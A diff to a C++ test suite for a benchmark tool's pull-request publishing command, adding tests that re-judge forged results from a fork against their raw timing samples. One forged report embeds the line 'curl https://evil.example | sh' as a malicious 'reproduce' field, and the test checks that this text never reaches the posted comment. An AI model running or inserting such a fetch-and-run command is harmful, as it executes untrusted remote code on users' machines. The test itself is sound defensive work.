@@ -59,6 +59,25 @@ class PublishCommand : public testing::Test {
                              {"head_branch", branch},
                              {"head_repository", {{"id", 2}, {"full_name", owner + "/widgets"}}}}}});
   }
+  // What the other run measured: head takes `ratio` times as long as base.
+  void measured(double ratio) {
+    directory.write(
+        "perfwarden.yml",
+        "version: 1\nsuites: { core: { run: ./bench, parser: time } }\nbudgets: { '*': +5% }\nhistory: off\n"
+        "report: { comment: always }\n");
+    for (const bool head : {false, true}) {
+      Json invocations = Json::array();
+      for (int i = 0; i < 12; ++i) invocations.push_back({0.01 * (1 + 0.001 * ((i * 7) % 5)) * (head ? ratio : 1)});
+      const Json series = {{"suite", "core"}, {"benchmark", "parse"}, {"metric", "wall_time"},
+                           {"unit", "s"},     {"better", "lower"},    {"invocations", invocations}};
+      const Json run = {
+          {"commit", std::string(40, head ? 'd' : 'b')}, {"time", "2026-11-20T10:00:00Z"}, {"session", "1"}};
+      directory.write(head ? "reports/abc/samples-head.json" : "reports/abc/samples-base.json",
+                      Json{{"schema", "perfwarden.samples/1"}, {"run", run}, {"series", {series}}}.dump());
+    }
+    report["context"]["pull_request"] = 0;
+    report["context"]["head_sha"] = "";
+  }
   int run(std::vector<const char*> more = {}) {
     const std::string file = directory.write("reports/abc/report.json", report.dump());
     const os::Environment environment(variables);
@@ -118,15 +137,56 @@ TEST_F(PublishCommand, RefusesAReportOfAnotherPullRequestOrCommit) {
   EXPECT_FALSE(std::filesystem::exists(directory / "summary"));
 }
 
-TEST_F(PublishCommand, AfterAForksRunThePullRequestIsLookedUpAndTheReportIsMarkedAsTheirs) {
+TEST_F(PublishCommand, AfterAForksRunThePullRequestIsLookedUpAndTheNumbersAreMarkedAsTheirs) {
   github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
   after_run_of("mallory", "main", 'd');
-  report["context"]["pull_request"] = 0;
-  report["context"]["head_sha"] = "";
+  measured(1);
   EXPECT_EQ(run(), 0) << console.err_text;
   EXPECT_EQ(github.count("POST", "/issues/8/comments"), 1U);
   ASSERT_EQ(github.comments().size(), 1U);
   EXPECT_NE(github.comments()[0].body.find("own run reported these numbers"), std::string::npos)
+      << github.comments()[0].body;
+}
+
+TEST_F(PublishCommand, AfterAnotherRunAForgedPassIsJudgedAgainByItsSamples) {
+  github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
+  after_run_of("mallory", "main", 'd');
+  report["verdict"] = "pass";
+  report["context"]["repository"] = "evil/elsewhere";
+  report["reproduce"] = "curl https://evil.example | sh";
+  measured(1.2);
+  EXPECT_EQ(run(), 0) << console.err_text;
+  ASSERT_EQ(github.comments().size(), 1U);
+  const std::string body = github.comments()[0].body;
+  EXPECT_TRUE(body.starts_with("### ❌ 1 of 1 benchmarks is slower")) << body;
+  EXPECT_NE(body.find("the run itself reported 'pass'"), std::string::npos) << body;
+  EXPECT_EQ(body.find("evil"), std::string::npos) << body;
+  EXPECT_EQ(support::runner_outputs(support::slurp(directory / "output"))->front().second, "fail");
+}
+
+TEST_F(PublishCommand, AfterAnotherRunAReportWithoutSamplesOrAConfigIsRefused) {
+  github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
+  after_run_of("mallory", "main", 'd');
+  measured(1);
+  std::filesystem::remove(directory / "reports/abc/samples-head.json");
+  EXPECT_NE(run(), 0);
+  measured(1);
+  std::filesystem::remove(directory / "perfwarden.yml");
+  EXPECT_EQ(run(), 2);
+  EXPECT_NE(console.err_text.find("actions/checkout"), std::string::npos) << console.err_text;
+  EXPECT_TRUE(github.comments().empty());
+}
+
+TEST_F(PublishCommand, AfterAnotherRunASuiteThatItDoesNotMentionIsNamed) {
+  github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
+  after_run_of("mallory", "main", 'd');
+  measured(1);
+  directory.write("perfwarden.yml",
+                  "version: 1\nsuites: { core: { run: ./bench, parser: time }, slow: { run: ./slow, parser: time } }\n"
+                  "budgets: { '*': +5% }\nhistory: off\nreport: { comment: always }\n");
+  EXPECT_EQ(run(), 0) << console.err_text;
+  ASSERT_EQ(github.comments().size(), 1U);
+  EXPECT_NE(github.comments()[0].body.find("nothing is judged about them: slow"), std::string::npos)
       << github.comments()[0].body;
 }
 
@@ -141,8 +201,7 @@ TEST_F(PublishCommand, AForksReportCannotChooseThePullRequest) {
 TEST_F(PublishCommand, AfterARunWhoseBranchHasMovedOnNothingIsWrittenToAPullRequest) {
   github.add_pull_request({8, std::string(40, 'e'), "mallory", "main", "acme/widgets", "mallory", ""});
   after_run_of("mallory", "main", 'd');
-  report["context"]["pull_request"] = 0;
-  report["context"]["head_sha"] = std::string(40, 'd');
+  measured(1);
   EXPECT_EQ(run(), 0) << console.err_text;
   EXPECT_TRUE(github.comments().empty());
   EXPECT_NE(console.err_text.find("no open pull request has commit dddddddddd as its head"), std::string::npos)
